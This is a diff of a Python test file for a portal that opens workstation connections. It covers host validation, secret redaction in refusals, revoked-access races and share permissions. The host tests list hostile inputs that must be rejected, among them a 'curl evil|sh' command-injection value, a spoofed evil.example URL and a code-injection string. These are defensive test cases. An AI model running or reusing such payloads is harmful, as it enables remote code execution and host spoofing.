@@ -1,6 +1,7 @@
 """Connections into workstations: opened with the team's key, told to one page, and kept nowhere."""
 
 import threading
+from collections.abc import Callable
 from datetime import timedelta
 from typing import Any
 
@@ -13,6 +14,7 @@ from portal import agentstation, models
 from portal.models.clock import Now
 from portal.services.connections import access, ending, hosts, offers, opening, sharing
 from portal.services.key import circuit_breaker, probe
+from portal.services.mirrors import releases
 from portal.services.runtime import clients, leases
 from tests import factories
 
@@ -96,6 +98,16 @@ def test_the_address_must_be_at_a_known_host(sandbox, alice, workstation):
         ("wss://evilagentstation.ai/", True, False),
         ("javascript:alert(1)//connect.agentstation.ai", True, False),
         ("wss://[::1/", True, False),
+        (r"wss://evil.example\@connect.agentstation.ai/x", True, False),
+        ("wss://me:secret@connect.agentstation.ai/x", True, False),
+        (" wss://connect.agentstation.ai/x", True, False),
+        ("wss://connect.agentstation.ai:0/x", True, False),
+        ("wss://connect.agentstation.ai%2f/x", True, False),
+        ('https://connect.agentstation.ai/"); import os #', True, False),
+        ("https://connect.agentstation.ai/\ud800", True, False),
+        ("a.agentstation.ai:5900; curl evil|sh", False, False),
+        ("a.agentstation.ai:99999", False, False),
+        ("a.agentstation.ai", False, False),
         ("a2m.vnc.v1.connect.agentstation.ai:5900", False, True),
         ("vnc.evil.example:5900", False, False),
     ],
@@ -106,7 +118,7 @@ def test_hosts_are_known_by_name_scheme_and_port(settings, address, is_url, is_k
     assert hosts.list_sources() == ["wss://*.agentstation.ai", "https://*.agentstation.ai"]
 
 
-@pytest.mark.parametrize("status", [400, 418, 422])
+@pytest.mark.parametrize("status", [400, 422])
 def test_what_the_provider_refuses_is_told_and_remembered_until_it_opens(sandbox, alice, workstation, status):
     script(sandbox, status=status, body={"error": "No terminal", "message": "This type has no terminal."})
     refusal = refuse(alice, workstation)
@@ -125,6 +137,7 @@ def test_what_the_provider_refuses_is_told_and_remembered_until_it_opens(sandbox
     ("answer", "title", "retry_after"),
     [
         ({"status": 429, "headers": {"Retry-After": "7"}}, "Rate limit exceeded", 7.0),
+        ({"status": 403, "body": "<html>Forbidden</html>"}, "Unexpected response", None),
         ({"status": 500}, "AgentStation internal error", None),
         ({"status": 503}, "AgentStation is overloaded", None),
         ({"name": "reset"}, "Connection lost", None),
@@ -199,12 +212,73 @@ def test_four_calls_at_one_time_leave_the_fifth_to_come_again(sandbox, alice, wo
     assert open_one(alice, workstation).address == SECRET
 
 
-def test_it_waits_where_the_calls_of_a_minute_are_used_up(sandbox, settings, alice, workstation):
-    settings.PORTAL_CALLS_PER_MINUTE = 2
+@pytest.mark.parametrize("status", [302, 401, 422, 503])
+def test_what_may_be_an_address_is_not_told_in_the_words_of_a_refusal(sandbox, alice, workstation, status):
+    script(
+        sandbox, status=status, body={"error": "No", "message": f"It is open at {SECRET} or 127.0.0.1:5900 already."}
+    )
+    refusal = refuse(alice, workstation)
+    workstation.refresh_from_db()
+    told = f"{refusal.title}{refusal.text}{refusal.said}{workstation.refused_connections}"
+    assert "secret-token" not in told
+    assert "5900" not in told
+
+
+def give_meanwhile(sandbox, monkeypatch, change: Callable[[], object]) -> None:
+    """Let something happen while the provider is asked."""
     script(sandbox, status=200, body={"url": SECRET})
-    open_one(alice, workstation)  # the request was the first call
-    with pytest.raises(opening.Busy):
-        open_one(alice, workstation)
+    asked = agentstation.Client.open_connection
+
+    def open_late(client: agentstation.Client, **values: Any) -> str:
+        address = asked(client, **values)
+        change()
+        return address
+
+    monkeypatch.setattr(agentstation.Client, "open_connection", open_late)
+
+
+@pytest.mark.parametrize("change", ["taken back", "look only", "deactivated", "out of all groups", "released"])
+def test_nobody_gets_the_address_who_may_no_longer_have_it(sandbox, alice, bob, workstation, monkeypatch, change):
+    made = share(alice, workstation, level=models.Share.Level.WORK)
+    changes: dict[str, Callable[[], object]] = {
+        "taken back": lambda: sharing.end_share(share=made, by=alice),
+        "look only": lambda: share(alice, workstation, level=models.Share.Level.LOOK),
+        "deactivated": lambda: models.User.objects.filter(pk=bob.pk).update(is_active=False),
+        "out of all groups": lambda: bob.groups.clear(),
+        "released": lambda: releases.request_release(actor=alice, workstation=workstation),
+    }
+    give_meanwhile(sandbox, monkeypatch, changes[change])
+    assert "any more" in refuse(bob, workstation).title
+    assert not models.Connection.objects.exists()
+
+
+def test_no_traceback_shows_an_address(sandbox, alice, workstation):
+    script(sandbox, status=200, body={"url": SECRET})
+    assert "secret-token" not in repr(open_one(alice, workstation).address)
+
+
+@pytest.mark.parametrize("seen", ["while it was under way", "in a later pause"])
+def test_a_probe_tells_nothing_of_what_came_after_it(sandbox, alice, workstation, seen):
+    script(sandbox, status=401)
+    refuse(alice, workstation)
+    taken = leases.acquire_lease(name="probe", holder="test", seconds=600)
+    assert taken is not None
+    account = workstation.account
+    claimed = circuit_breaker.claim_probe(account=account, lease=taken)
+    assert claimed is not None
+    if seen == "in a later pause":
+        sandbox.script({"on": "POST /workstations", "status": 401})
+        factories.submit(alice)
+        factories.send_once()
+    else:
+        script(sandbox, status=401)
+        refuse(alice, workstation)
+
+    circuit_breaker.note_probe(account=account, probe=claimed, failure=None, lease=taken)
+
+    key = circuit_breaker.get_current_key()
+    assert key.is_paused is (seen == "in a later pause")
+    assert key.probe_at is not None
 
 
 # --- The end ---
@@ -257,6 +331,14 @@ def test_the_end_of_a_workstation_ends_all_that_is_open(alice, workstation, leas
     shown.refresh_from_db()
     assert shown.ended_at is not None
     assert models.Event.objects.filter(verb="end-connection").count() == 2
+
+
+def test_a_clock_that_stepped_back_makes_nothing_end_before_it_began(alice, workstation):
+    connection = open_row(alice, workstation)
+    models.Connection.objects.update(opened_at=F("opened_at") + timedelta(hours=1))
+    connection.refresh_from_db()
+    ending.end_connection(connection=connection, by=alice)
+    assert read_end() == ("alice", "desktop", 0)
 
 
 def test_a_sign_of_life_is_written_down_once_a_minute(alice, workstation):
@@ -320,6 +402,36 @@ def test_nobody_can_be_let_in_who_is_not_there(alice, workstation, name):
     factories.create_user("carol", "Members", is_active=False)
     with pytest.raises(sharing.NotShared):
         share(alice, workstation, name=name)
+
+
+def test_an_operator_says_why_even_where_the_workstation_is_shared(alice, olga, workstation):
+    share(alice, workstation, name="olga", level=models.Share.Level.WORK)
+    found = access.find_access(person=olga, workstation=workstation)
+    assert found is not None
+    assert found.needs_reason
+    assert set(found.kinds) == set(Kind)
+    assert not ending.note_alive(connection=open_row(olga, workstation))
+    assert ending.note_alive(connection=open_row(olga, workstation, reason="She asked."))
+
+
+def test_a_name_with_other_capitals_is_one_person_s_alone(alice, bob, workstation):
+    assert share(alice, workstation, name="BOB").person == bob
+    capital = factories.create_user("Bob", "Members")
+    assert share(alice, workstation, name="Bob").person == capital
+    with pytest.raises(sharing.NotShared):
+        share(alice, workstation, name="BOB")
+
+
+def test_nobody_in_no_group_is_let_in(alice, workstation):
+    guest = factories.create_user("guest")
+    share(alice, workstation, name="guest")
+    assert find_kinds(guest, workstation) == set()
+
+
+def test_a_share_of_somebody_deactivated_lets_nobody_in(alice, bob, workstation):
+    share(alice, workstation)
+    models.User.objects.filter(pk=alice.pk).update(is_active=False)
+    assert find_kinds(bob, models.Workstation.objects.get()) == set()
 
 
 def test_two_shares_at_once_leave_one(alice, bob, workstation):
